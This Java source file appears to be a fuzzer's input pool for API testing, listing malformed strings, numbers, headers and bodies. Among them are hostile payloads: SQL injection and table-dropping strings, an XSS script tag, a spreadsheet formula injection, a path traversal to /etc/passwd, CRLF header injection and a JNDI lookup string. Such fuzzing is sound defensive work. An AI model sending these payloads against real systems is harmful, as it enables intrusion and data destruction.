package dev.perimeter.fuzz;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/** Words, numbers, headers and bodies that nobody would send in earnest. */
final class Nonsense {

    private static final List<String> WORDS = List.of(
            "",
            " ",
            "a",
            "Grace Hopper",
            "grace@example.org",
            "EUR",
            "2-10",
            "Europe/Berlin",
            "person",
            "inactive",
            "'; drop table customer; --",
            "' or '1'='1",
            "\" or \"\"=\"",
            "1); select pg_sleep(10); --",
            "$$ :company ? {fn now()} $1",
            "\\",
            "%s%n%d",
            "${7*7} #{7*7} {{7*7}}",
            "<script>alert(1)</script>",
            "=cmd|' /C calc'!A0",
            "../../../../etc/passwd",
            "\u0000",
            "\r\nSet-Cookie: x=y",
            "\u202egnirts",
            "\u200b",
            "\ufeff",
            "\ud83d\udda8\ufe0f",
            "\ufdfa".repeat(50),
            "e" + "\u0301".repeat(40),
            "\ud800",
            "\uffff",
            "\u2028",
            "\u0130\u0131\u00df\u1e9e",
            "null",
            "true",
            "0001-01-01",
            "10000-01-01",
            "2026-02-30",
            "infinity",
            "00000000-0000-0000-0000-000000000000",
            "x".repeat(300),
            "x".repeat(6000),
            "\u00e4".repeat(200));

    private static final List<String> NUMBERS = List.of(
            "0",
            "-0",
            "1",
            "-1",
            "1.0",
            "1e400",
            "-1e400",
            "1e-400",
            "9223372036854775807",
            "9223372036854775808",
            "2147483648",
            "-2147483649",
            "0.1",
            "0.30000000000000004",
            "1000000000",
            "00",
            "0x10",
            "NaN",
            "Infinity",
            "9".repeat(200),
            "1E1000000",
            "+1",
            ".5",
            "1_000");

    private static final List<String> HEADERS = List.of(
            "*",
            "\"1\"",
            "W/\"1\"",
            "\"1\", \"2\"",
            "1",
            "\"",
            "x",
            "",
            ",",
            "k",
            "with space",
            "x".repeat(256),
            "x".repeat(4000),
            "\u0000",
            "\u00e4\u00ff",
            "a\tb",
            "\u007f",
            "application/json",
            "application/json; charset=utf-16",
            "application/json;charset=\"utf-8\"",
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/merge-patch+json",
            "*/*",
            "/",
            "text/html;q=2",
            "gzip",
            "bytes=0-1",
            "127.0.0.1, 1.2.3",
            "::::",
            "[::1]:80",
            "'; drop table customer; --",
            "${jndi:ldap://example.org/a}");

    /** Bodies that are no object. */
    private static final List<String> BODIES = List.of(
            "",
            "{",
            "[]",
            "null",
            "1",
            "\"x\"",
            "{}{}",
            "{\"a\":1,}",
            "{'a':1}",
            "\ufeff{}",
            "{\"name\":\"x\",\"name\":\"y\"}",
            "{\"name\": \"\\ud800\", \"\\udfff\": \"\\u0000\"}",
            "{\"a\":".repeat(2_000),
            "[".repeat(2_000) + "]".repeat(2_000),
            "&=&&a=%zz&%ff=%00",
            "_of=%ff&_once=x&_of=y",
            "a[999999999].b=1&lines[0].quantity=&lines[-1].x=1&..=.&[]=1");

    /** What stands behind a question mark and is no text. */
    private static final List<String> RAW =
            List.of("%ED%A0%80", "%ff", "", "%00", "%", "%zz", "%e4", "%0d%0aX:y", "%c0%80", "+", "a=b=c", "%25%30%30");

    private Nonsense() {}

    static String word(Random random) {
        return pick(random, WORDS);
    }

    static String number(Random random) {
        return pick(random, NUMBERS);
    }

    static String header(Random random) {
        return pick(random, HEADERS);
    }

    static String body(Random random) {
        return pick(random, BODIES);
    }

    static String raw(Random random) {
        return pick(random, RAW);
    }

    static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static <T> T pick(Random random, List<T> all) {
        return all.get(random.nextInt(all.size()));
    }
}
